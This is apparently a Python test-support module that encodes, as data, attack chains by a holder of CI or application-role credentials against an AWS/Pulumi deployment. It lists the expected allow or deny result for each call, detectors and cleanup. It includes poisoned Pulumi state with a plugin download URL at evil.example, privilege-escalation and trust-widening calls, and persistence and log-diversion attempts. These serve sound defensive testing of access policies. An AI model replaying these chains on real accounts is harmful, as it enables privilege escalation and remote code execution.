"""Chains of calls by an attacker who has one of the roles' credentials: each ends refused, or is found.

A chain is data: its calls in order, each with what AWS must respond, and what finds the result where calls are allowed.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal, NamedTuple

from infra import names, tags
from infra.policies import execution, trust
from local_aws.provider.resource import Aws, Props
from local_aws.rehearsal.denied_calls import ADMINISTRATOR, Account, Caller
from ops.errors import UsageError
from ops.health import leftovers
from ops.health.telemetry import Telemetry
from ops.health.workload import Workload
from ops.stacks import status
from ops.stacks.backend import Backend
from tests.support.attacks import ANYBODY, EVERYTHING

DEPLOY: Caller = "deploy role"

BESIDE = names.AppNames("beside")
"""The stack whose names the attacker uses; it is not deployed."""

TAGS = {tags.PROJECT: names.SERVICE, tags.STACK: names.BOOTSTRAP_STACK}
"""What the attacker must set, and a stack that nobody destroys."""

ZIP = b"PK\x05\x06" + bytes(18)
"""An empty archive."""

Finder = Callable[[Backend], str]
"""Returns what finds the result of a chain, and how it says so; fails where it does not."""


class Call(NamedTuple):
    """One call of a chain, and whether AWS allows it."""

    response: Literal["allowed", "denied"]
    service: str
    operation: str
    parameters: Props


@dataclass(frozen=True)
class Chain:
    """`undo` is made by an administrator afterwards, so that nothing of the chain stays."""

    title: str
    caller: Caller
    calls: tuple[Call, ...]
    finds: Finder | None = None
    undo: Callable[[Aws], Any] = lambda administrator: None


def allowed(service: str, operation: str, **parameters: Any) -> Call:
    return Call("allowed", service, operation, parameters)


def denied(service: str, operation: str, **parameters: Any) -> Call:
    return Call("denied", service, operation, parameters)


def chains(account: Account) -> list[Chain]:
    """Return every chain; order and titles do not depend on the account's ids."""
    return [
        *_at_state(account), *_at_other_teams(account), *_at_roles(account), *_beside_the_stack(account),
        *_by_readers(account), *_by_functions(account),
    ]  # fmt: skip


def _status(backend: Backend) -> str:
    try:
        status.read(backend, BESIDE.stack)
    except UsageError as error:
        return f"status: {str(error).split(': ', 1)[1]}"
    raise AssertionError("status trusts the state")


def _check(left: str) -> Finder:
    def find(backend: Backend) -> str:
        found = leftovers.find(BESIDE.stack, backend.deployed_apps(), backend.region)
        assert [name.startswith(left) for name in found] == [True], found
        return f"check --expect gone: {', '.join(found)}"

    return find


def _policy(backend: Backend) -> str:
    workload = Workload.of(backend.deployed("app"))
    more = Telemetry(workload).invokers() - workload.invokers
    assert more
    return f"check: the function's policy has {', '.join(sorted(sid for sid, _, _ in more))}"


def _key(account: Account, stack: str = BESIDE.stack) -> dict[str, str]:
    return {"Bucket": account.bucket, "Key": f".pulumi/stacks/{names.PROJECT}/{stack}.json"}


def _remove_state(account: Account, stack: str = BESIDE.stack) -> Callable[[Aws], None]:
    def undo(administrator: Aws) -> None:
        s3, key = administrator.client("s3"), _key(account, stack)
        versions = s3.list_object_versions(Bucket=key["Bucket"], Prefix=key["Key"])
        for version in (*versions.get("Versions", []), *versions.get("DeleteMarkers", [])):
            s3.delete_object(Bucket=key["Bucket"], Key=key["Key"], VersionId=version["VersionId"])

    return undo


def _state(resource: dict[str, Any], **latest: Any) -> bytes:
    provider = f"urn:pulumi:beside::{names.PROJECT}::pulumi:providers:aws::default_7_0_0::id"
    own = {"urn": f"urn:pulumi:beside::{names.PROJECT}::{resource['type']}::x", "custom": True, "id": "x",
           "provider": provider}  # fmt: skip
    deployment = {"manifest": {}, "resources": [{**own, **resource}], **latest}
    stack = f"organization/{names.PROJECT}/beside"
    return json.dumps({"version": 3, "checkpoint": {"stack": stack, "latest": deployment}}).encode()


def _at_state(account: Account) -> list[Chain]:
    """Write a state that runs code as whoever updates the stack next, or hide what one had."""
    log_group, foreign = "aws:cloudwatch/logGroup:LogGroup", "https://evil.example/plugins"
    provider = "pulumi:providers:aws"
    states = {
        "a provider with a download address": _state(
            {"type": provider, "inputs": {"__internal": {"pluginDownloadURL": foreign}}}
        ),
        "a provider of another name": _state(
            {"type": log_group, "provider": f"urn:pulumi:beside::{names.PROJECT}::pulumi:providers:evil::x::id"}
        ),
        "a dynamic resource": _state({"type": "pulumi-python:dynamic:Resource"}),
        "a pending operation of a foreign type": _state(
            {"type": provider, "inputs": {}, "urn": f"urn:pulumi:beside::{names.PROJECT}::{provider}::default_7_0_0"},
            pending_operations=[
                {
                    "type": "creating",
                    "resource": {
                        "urn": f"urn:pulumi:beside::{names.PROJECT}::command:local:Command::x",
                        "type": "command:local:Command",
                    },
                }
            ],
        ),
        "another secrets provider": _state(
            {"type": provider, "inputs": {}},
            secrets_providers={"type": "cloud", "state": {"url": "awskms://alias/evil?region=eu-west-1"}},
        ),
    }
    key, app = _key(account), _key(account, account.app.stack)
    bootstrap = _key(account, names.BOOTSTRAP_STACK)
    return [
        *(
            Chain(
                f"write a state with {what}, wait for the next Pulumi command",
                DEPLOY,
                (allowed("s3", "put_object", **key, Body=body), allowed("s3", "get_object", **key)),
                _status,
                _remove_state(account),
            )
            for what, body in states.items()
        ),
        Chain(
            "the operator writes such a state",
            "operator",
            (
                allowed("s3", "put_object", **key, Body=states["a dynamic resource"]),
                denied("s3", "put_object", **bootstrap, Body=states["a dynamic resource"]),
            ),
            _status,
            _remove_state(account),
        ),
        Chain(
            "read bootstrap's state by a copy, by parts, by an earlier version",
            DEPLOY,
            (
                denied("s3", "copy_object", **key, CopySource=bootstrap),
                denied("s3", "get_object", **bootstrap, VersionId="null"),
                denied("s3", "get_object", **bootstrap, Range="bytes=0-10"),
                denied("s3", "list_object_versions", Bucket=account.bucket),
            ),
        ),
        Chain(
            "overwrite a state, then destroy its versions",
            DEPLOY,
            (
                allowed("s3", "put_object", **key, Body=b"{}"),
                allowed("s3", "delete_object", **key),
                denied("s3", "delete_object", **key, VersionId="null"),
                denied("s3", "put_bucket_versioning", Bucket=account.bucket,
                       VersioningConfiguration={"Status": "Suspended"}),
            ),
            undo=_remove_state(account),
        ),
        Chain(
            "make an alias for the key, open its policy, grant it",
            DEPLOY,
            (
                denied("kms", "create_alias", AliasName="alias/mine", TargetKeyId=account.key_arn),
                denied("kms", "put_key_policy", KeyId=account.key_arn, PolicyName="default", Policy=EVERYTHING),
                denied("kms", "create_grant", KeyId=account.key_arn, GranteePrincipal=account.preview_role_arn,
                       Operations=["Decrypt"]),
                denied("kms", "schedule_key_deletion", KeyId=account.key_arn, PendingWindowInDays=7),
            ),
        ),
        Chain(
            "write a state as a pull request: whole, in parts, by a copy, by its lock",
            "preview role",
            (
                allowed("s3", "get_object", **app),
                denied("s3", "put_object", **app, Body=states["a dynamic resource"]),
                denied("s3", "create_multipart_upload", **app),
                denied("s3", "copy_object", **app, CopySource=app),
                denied("s3", "put_object", Bucket=account.bucket, Body=b"{}",
                       Key=f".pulumi/locks/organization/{names.PROJECT}/{account.app.stack}/1.json"),
            ),
        ),
    ]  # fmt: skip


def _at_other_teams(account: Account) -> list[Chain]:
    api = {"ApiId": account.other_api}
    stage = {**api, "StageName": "$default"}
    arn = account.context.apigateway_arn(f"/apis/{account.other_api}")
    own_log = account.context.arn("logs", f"log-group:{account.app.access_log_group}")
    settings = {"DestinationArn": own_log, "Format": "$context.path"}
    ours = {tags.PROJECT: names.SERVICE}

    def retag(administrator: Aws) -> None:
        for tagged in (arn, f"{arn}/stages/$default"):
            administrator.client("apigatewayv2").tag_resource(ResourceArn=tagged, Tags={"Project": "billing"})

    return [
        Chain(
            "tag another team's stage as ours, then change it",
            DEPLOY,
            (
                allowed("apigatewayv2", "tag_resource", ResourceArn=f"{arn}/stages/$default", Tags=ours),
                denied("apigatewayv2", "update_stage", **stage, AutoDeploy=False),
                denied("apigatewayv2", "update_stage", **stage, AccessLogSettings=settings),
                denied("apigatewayv2", "delete_stage", **stage),
            ),
            undo=retag,
        ),
        Chain(
            "tag another team's API as ours, then change it, then take its tags away",
            DEPLOY,
            (
                allowed("apigatewayv2", "tag_resource", ResourceArn=arn, Tags=ours),
                denied("apigatewayv2", "update_api", **api, Name=account.app.api),
                denied("apigatewayv2", "create_stage", **stage | {"StageName": "new"}),
                denied("apigatewayv2", "untag_resource", ResourceArn=arn, TagKeys=[tags.PROJECT]),
                denied("apigatewayv2", "delete_api", **api),
            ),
            undo=retag,
        ),
        Chain(
            "put another team's function behind our API, by its policy",
            DEPLOY,
            (
                denied("lambda", "add_permission", FunctionName="billing", StatementId="s",
                       Action="lambda:InvokeFunction", Principal="apigateway.amazonaws.com"),
                denied("lambda", "invoke", FunctionName="billing"),
                denied("lambda", "get_policy", FunctionName="billing"),
            ),
        ),
        Chain(
            "read another team's log by our filter, by our query, by deleting it",
            DEPLOY,
            (
                denied("logs", "put_subscription_filter", logGroupName="/aws/lambda/billing", filterName="f",
                       filterPattern="", destinationArn=own_log),
                denied("logs", "start_query", logGroupNames=[account.app.log_group, "/aws/lambda/billing"],
                       startTime=0, endTime=1, queryString="fields @message"),
                denied("logs", "delete_log_group", logGroupName="/aws/lambda/billing"),
            ),
        ),
    ]  # fmt: skip


def _at_roles(account: Account) -> list[Chain]:
    context = account.context
    boundary = {"PermissionsBoundary": execution.boundary_arn(context)}
    lambda_trust = {"AssumeRolePolicyDocument": trust.by_lambda()}
    role = {"RoleName": BESIDE.execution_role}
    own, own_state = {"RoleName": names.DEPLOY_ROLE}, names.ci_policy(names.DEPLOY_ROLE, "state")
    own_policy = {"PolicyArn": context.iam_arn(f"policy{names.CI_ROLE_PATH}{own_state}")}
    wider = {"PolicyDocument": EVERYTHING, "SetAsDefault": True}
    nested = f"{names.APP_ROLE_PATH}{names.SERVICE}-x/"
    function = {"FunctionName": BESIDE.function, "Runtime": "python3.13", "Handler": "a.b", "Code": {"ZipFile": ZIP},
                "Tags": TAGS}  # fmt: skip
    app_role = context.iam_arn(f"role{names.APP_ROLE_PATH}{account.app.execution_role}")
    operator = {"RoleName": names.OPERATOR_ROLE}

    def remove_role(administrator: Aws) -> None:
        iam = administrator.client("iam")
        name = role["RoleName"]
        for policy in iam.list_role_policies(RoleName=name)["PolicyNames"]:
            iam.delete_role_policy(RoleName=name, PolicyName=policy)
        iam.delete_role(RoleName=name)

    return [
        Chain(
            "make a role of any name in a nested path, then pass it",
            DEPLOY,
            (
                denied("iam", "create_role", RoleName="billing-role", Path=nested, **boundary, **lambda_trust),
                denied("lambda", "create_function", **function, Role=context.iam_arn(f"role{nested}billing-role")),
                denied("lambda", "update_function_configuration", FunctionName=account.app.function,
                       Role=context.iam_arn(f"role{nested}billing-role")),
            ),
        ),
        Chain(
            "make a role, give it everything, detach the boundary, attach a policy, assume it",
            DEPLOY,
            (
                allowed("iam", "create_role", **role, Path=names.APP_ROLE_PATH, **boundary, **lambda_trust),
                allowed("iam", "put_role_policy", **role, PolicyName="all", PolicyDocument=EVERYTHING),
                allowed("iam", "update_assume_role_policy", **role, PolicyDocument=ANYBODY),
                denied("iam", "delete_role_permissions_boundary", **role),
                denied("iam", "put_role_permissions_boundary", **role, PermissionsBoundary=ADMINISTRATOR),
                denied("iam", "attach_role_policy", **role, PolicyArn=ADMINISTRATOR),
                denied("sts", "assume_role", RoleSessionName="chain",
                       RoleArn=context.iam_arn(f"role{names.APP_ROLE_PATH}{BESIDE.execution_role}")),
            ),
            _check("role/"),
            remove_role,
        ),
        Chain(
            "widen its own policy: a new version, an older one, an inline one, another role's",
            DEPLOY,
            (
                denied("iam", "create_policy_version", **own_policy, **wider),
                denied("iam", "set_default_policy_version", **own_policy, VersionId="v1"),
                denied("iam", "put_role_policy", **own, PolicyName="all", PolicyDocument=EVERYTHING),
                denied("iam", "attach_role_policy", **own, PolicyArn=ADMINISTRATOR),
                denied("iam", "create_policy", PolicyName="all", PolicyDocument=EVERYTHING),
            ),
        ),
        Chain(
            "the operator widens its policy, makes itself trusted, becomes the deploy role",
            "operator",
            (
                denied("iam", "create_policy_version", **own_policy, **wider),
                denied("iam", "update_assume_role_policy", **operator, PolicyDocument=ANYBODY),
                denied("iam", "update_assume_role_policy", **own, PolicyDocument=ANYBODY),
                denied("sts", "assume_role", RoleArn=account.deploy_role_arn, RoleSessionName="chain"),
            ),
        ),
        Chain(
            "make a function with an allowed role, then give it another",
            DEPLOY,
            (
                allowed("lambda", "create_function", **function, Role=app_role),
                denied("lambda", "update_function_configuration", FunctionName=BESIDE.function,
                       Role=account.deploy_role_arn),
                denied("lambda", "update_function_configuration", FunctionName=BESIDE.function,
                       Role=context.iam_arn("role/billing")),
                denied("lambda", "invoke", FunctionName=BESIDE.function),
            ),
            _check("function:"),
            lambda administrator: administrator.client("lambda").delete_function(FunctionName=BESIDE.function),
        ),
    ]  # fmt: skip


def _beside_the_stack(account: Account) -> list[Chain]:
    """Leave something that survives destroy."""
    context = account.context
    role = context.iam_arn(f"role{names.APP_ROLE_PATH}{account.app.execution_role}")
    beside = "storefront-nobody-evil"
    arn = context.arn("lambda", f"function:{beside}")
    listed = [{"Key": key, "Value": value} for key, value in TAGS.items()]
    client = context.arn("lambda", f"function:{account.app.client}")

    latest: dict[str, Any] = {"manifest": {}, "resources": []}
    checkpoint = {"stack": f"organization/{names.PROJECT}/nobody", "latest": latest}
    empty = json.dumps({"version": 3, "checkpoint": checkpoint}).encode()

    def remove_made_up_stack(administrator: Aws) -> None:
        administrator.client("lambda").delete_function(FunctionName=beside)
        _remove_state(account, "nobody")(administrator)

    def remove_api(administrator: Aws) -> None:
        gateway = administrator.client("apigatewayv2")
        for api in gateway.get_apis()["Items"]:
            if api["Name"] == BESIDE.api:
                gateway.delete_api(ApiId=api["ApiId"])

    def remove_rule(administrator: Aws) -> None:
        events = administrator.client("events")
        events.remove_targets(Rule=BESIDE.schedule, Ids=["x"])
        events.delete_rule(Name=BESIDE.schedule)

    return [
        Chain(
            "put code beside the stack under no stack's name, hide it, let it survive destroy",
            DEPLOY,
            (
                allowed("lambda", "create_function", FunctionName=beside, Runtime="python3.13", Handler="a.b",
                        Role=role, Code={"ZipFile": ZIP}, Tags=TAGS),
                allowed("lambda", "add_permission", FunctionName=beside, StatementId="s",
                        Action="lambda:InvokeFunction", Principal="events.amazonaws.com"),
                denied("lambda", "untag_resource", Resource=arn, TagKeys=[tags.PROJECT, tags.STACK]),
                denied("lambda", "tag_resource", Resource=arn, Tags={tags.PROJECT: "billing"}),
            ),
            _check(f"function:{beside}"),
            lambda administrator: administrator.client("lambda").delete_function(FunctionName=beside),
        ),
        Chain(
            "put code beside the stack under the name of a stack that it makes up in the state",
            DEPLOY,
            (
                allowed("s3", "put_object", **_key(account, "nobody"), Body=empty),
                allowed("lambda", "create_function", FunctionName=beside, Runtime="python3.13", Handler="a.b",
                        Role=role, Code={"ZipFile": ZIP}, Tags={**TAGS, tags.STACK: "nobody"}),
            ),
            _check(f"function:{beside}"),
            remove_made_up_stack,
        ),
        Chain(
            "let services invoke the function without a source, deploy over it",
            DEPLOY,
            (
                denied("lambda", "add_permission", FunctionName=account.app.function, StatementId="all",
                       Action="lambda:*", Principal="*"),
                allowed("lambda", "add_permission", FunctionName=account.app.function, StatementId="all",
                        Action="lambda:*", Principal="apigateway.amazonaws.com"),
            ),
            _policy,
            lambda administrator: administrator.client("lambda").remove_permission(
                FunctionName=account.app.function, StatementId="all"
            ),
        ),
        Chain(
            "put an API beside the stack",
            DEPLOY,
            (
                allowed("apigatewayv2", "create_api", Name=BESIDE.api, ProtocolType="HTTP", Tags=TAGS),
                denied("apigatewayv2", "create_vpc_link", Name="x", SubnetIds=["subnet-1"]),
            ),
            _check("/apis/"),
            remove_api,
        ),
        Chain(
            "put a schedule beside the stack that invokes the client",
            DEPLOY,
            (
                allowed("events", "put_rule", Name=BESIDE.schedule, ScheduleExpression="rate(1 hour)", Tags=listed),
                allowed("events", "put_targets", Rule=BESIDE.schedule, Targets=[{"Id": "x", "Arn": client}]),
                denied("events", "put_targets", Rule=BESIDE.schedule,
                       Targets=[{"Id": "x", "Arn": client, "RoleArn": account.deploy_role_arn}]),
            ),
            _check("rule/"),
            remove_rule,
        ),
        Chain(
            "put a log beside the stack and send it elsewhere",
            DEPLOY,
            (
                allowed("logs", "create_log_group", logGroupName=BESIDE.log_group),
                denied("logs", "put_subscription_filter", logGroupName=BESIDE.log_group, filterName="f",
                       filterPattern="", destinationArn=client),
            ),
            _check("log-group:"),
            lambda administrator: administrator.client("logs").delete_log_group(logGroupName=BESIDE.log_group),
        ),
    ]  # fmt: skip


def _by_readers(account: Account) -> list[Chain]:
    app, function = account.app, {"FunctionName": account.app.function}
    operator = account.context.iam_arn(f"role{names.PEOPLE_ROLE_PATH}{names.OPERATOR_ROLE}")
    return [
        Chain(
            "the observer reads what holds the answer: state, history, code, versions",
            "observer",
            (
                allowed("lambda", "get_function_configuration", **function),
                denied("s3", "list_objects_v2", Bucket=account.bucket),
                denied("s3", "get_object", **_key(account, app.stack)),
                denied("lambda", "get_function", **function),
                denied("lambda", "list_versions_by_function", **function),
                denied("sts", "assume_role", RoleArn=operator, RoleSessionName="chain"),
            ),
        ),
        Chain(
            "a pull request becomes the deploy role",
            "preview role",
            (
                denied("sts", "assume_role", RoleArn=account.deploy_role_arn, RoleSessionName="chain"),
                denied("sts", "assume_role", RoleArn=operator, RoleSessionName="chain"),
                denied("iam", "update_assume_role_policy", RoleName=names.DEPLOY_ROLE, PolicyDocument=ANYBODY),
                denied("iam", "get_role", RoleName=names.DEPLOY_ROLE),
            ),
        ),
    ]  # fmt: skip


def _by_functions(account: Account) -> list[Chain]:
    app = account.app
    events = [{"timestamp": 0, "message": "m"}]
    calls = (
        denied("sts", "assume_role", RoleArn=account.deploy_role_arn, RoleSessionName="chain"),
        denied("s3", "get_object", **_key(account, app.stack)),
        denied("lambda", "get_function", FunctionName=app.function),
        denied("lambda", "invoke", FunctionName=app.client),
        denied("lambda", "update_function_code", FunctionName=app.function, ZipFile=ZIP),
        denied("iam", "put_role_policy", RoleName=app.execution_role, PolicyName="all", PolicyDocument=EVERYTHING),
    )
    return [
        Chain(
            "code in the function forges the client's log, then spreads",
            "function",
            (
                denied("logs", "create_log_stream", logGroupName=app.client_log_group, logStreamName="s"),
                denied("logs", "put_log_events", logGroupName=app.client_log_group, logStreamName="s",
                       logEvents=events),
                *calls,
            ),
        ),
        Chain(
            "code in the client forges the function's log, then spreads",
            "client",
            (
                denied("logs", "create_log_stream", logGroupName=app.log_group, logStreamName="s"),
                denied("logs", "put_log_events", logGroupName=app.log_group, logStreamName="s", logEvents=events),
                *calls,
            ),
        ),
    ]  # fmt: skip
